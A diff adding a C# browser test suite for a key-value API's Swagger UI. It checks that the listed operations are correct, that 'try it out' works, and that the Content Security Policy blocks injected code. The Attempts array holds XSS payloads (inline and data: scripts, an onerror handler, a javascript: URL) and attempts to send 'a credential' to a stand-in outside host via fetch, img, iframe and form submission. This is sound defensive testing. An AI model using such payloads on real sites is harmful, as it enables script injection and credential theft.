@@ -1,0 +1,116 @@
+using System.Text.Json;
+using Kv.Api.Tests.Hosting;
+
+namespace Kv.Api.Tests.OpenApi;
+
+/// <summary>Swagger UI as a real browser shows it: it does what it is for, and no more.</summary>
+internal sealed class SwaggerUiTests : BrowserTest
+{
+    private const string Operation = """document.querySelector('.opblock-get [data-path="/kv/{key}"]')?.closest('.opblock')""";
+
+    private static readonly (string Attempt, string Directive)[] Attempts =
+    [
+        ("add('script', { textContent: 'ran()' })", "script-src-elem"),
+        ("add('script', { src: elsewhere + 'its.js' })", "script-src-elem"),
+        ("add('script', { src: 'data:text/javascript,ran()' })", "script-src-elem"),
+        ("add('p', { innerHTML: '<img src=\"data:,\" onerror=\"ran()\">' })", "script-src-attr"),
+        ("location = 'javascript:ran()'", "script-src-elem"),
+        ("fetch(elsewhere, { method: 'POST', mode: 'no-cors', body: 'a credential' }).then(ran, () => {})", "connect-src"),
+        ("add('img', { src: elsewhere + '?a-credential', onerror: ran })", "img-src"),
+        ("add('iframe', { src: elsewhere + '?a-credential', onload: ran })", "frame-src"),
+        ("add('iframe', { name: 'there' }).onload = ran; add('form', { action: elsewhere, target: 'there' }).submit()", "form-action"),
+    ];
+
+    [Test]
+    public async Task It_lists_every_operation_and_the_browser_finds_nothing_to_complain_of()
+    {
+        await GoToSwaggerUi();
+
+        var listed = await Page.Evaluate<string[]>(
+            """
+            [...document.querySelectorAll('.opblock-summary')].map(operation =>
+                operation.querySelector('.opblock-summary-method').textContent + ' ' + operation.querySelector('[data-path]').dataset.path)
+            """);
+        Assert.That(listed, Is.EquivalentTo(await Documented()).And.Contains("GET /kv/{key}"));
+        Assert.That(Page.Complaints, Is.Empty);
+        Assert.That(Page.Requested, Has.All.StartsWith(Host.Address.ToString()).Or.StartsWith("data:"));
+    }
+
+    [Test]
+    public async Task It_calls_the_operation_that_is_tried_out()
+    {
+        var key = KvHost.Unique("tried-");
+        await Kv.Put(key, "the value that was tried");
+        await GoToSwaggerUi();
+
+        await Click(".opblock-summary-control");
+        await Click(".try-out__btn");
+        await Fill("key", key);
+        // The example that stands there may be this very value's.
+        await Fill("If-None-Match", "\"0\"");
+        await Click(".execute");
+
+        await Page.Until($"{Operation}.querySelector('.live-responses-table .response .response-col_status')?.textContent.startsWith('200') === true");
+        await Page.Until($"{Operation}.querySelector('.live-responses-table').textContent.includes('the value that was tried')");
+        Assert.That(Page.Complaints, Is.Empty);
+    }
+
+    [Test]
+    public async Task What_is_smuggled_into_the_page_neither_runs_nor_gets_out()
+    {
+        // Where no policy forbids it, each of them runs. So it is the policy that keeps it from running within Kv's page.
+        await Page.Go(Elsewhere.Uri);
+        foreach (var (attempt, _) in Attempts)
+            Assert.That(await Try(attempt), Is.EqualTo("ran"), attempt);
+        await GoToSwaggerUi();
+        Elsewhere.Clear();
+
+        using var all = Assert.EnterMultipleScope();
+        foreach (var (attempt, directive) in Attempts)
+            Assert.That(await Try(attempt), Is.EqualTo(directive), attempt);
+        Assert.That(Elsewhere.Requests, Is.Empty);
+    }
+
+    // That it ran, or the directive of the policy that it violates.
+    private Task<string?> Try(string attempt) => Page.Evaluate<string>(
+        $$"""
+        new Promise(done => {
+            const elsewhere = '{{Elsewhere.Uri}}';
+            const add = (name, members) => {
+                const element = Object.assign(document.createElement(name), members);
+                document.body.append(element);
+                return element;
+            };
+            window.ran = () => done('ran');
+            document.addEventListener('securitypolicyviolation', violation => done(violation.effectiveDirective), { once: true });
+            {{attempt}};
+        })
+        """);
+
+    private async Task GoToSwaggerUi()
+    {
+        await Page.Go(new Uri(Host.Address, "/swagger"));
+        await Page.Until($"{Operation} !== undefined");
+    }
+
+    private async Task Click(string selector)
+    {
+        await Page.Until($"!!{Operation}.querySelector('{selector}')");
+        await Page.Evaluate<object>($"{Operation}.querySelector('{selector}').click()");
+    }
+
+    private async Task Fill(string parameter, string text)
+    {
+        var input = $"{Operation}.querySelector('tr[data-param-name=\"{parameter}\"] input')";
+        await Page.Until($"{input}?.disabled === false");
+        await Page.Evaluate<object>($"{input}.focus(), {input}.select()");
+        await Page.Type(text);
+        await Page.Until($"{input}.value === '{text}'");
+    }
+
+    private async Task<IEnumerable<string>> Documented() =>
+        from path in (await Kv.Send(HttpMethod.Get, "/swagger/v1/swagger.json")).Json.GetProperty("paths").EnumerateObject()
+        from operation in path.Value.EnumerateObject()
+        where operation.Value.ValueKind == JsonValueKind.Object
+        select $"{operation.Name.ToUpperInvariant()} {path.Name}";
+}
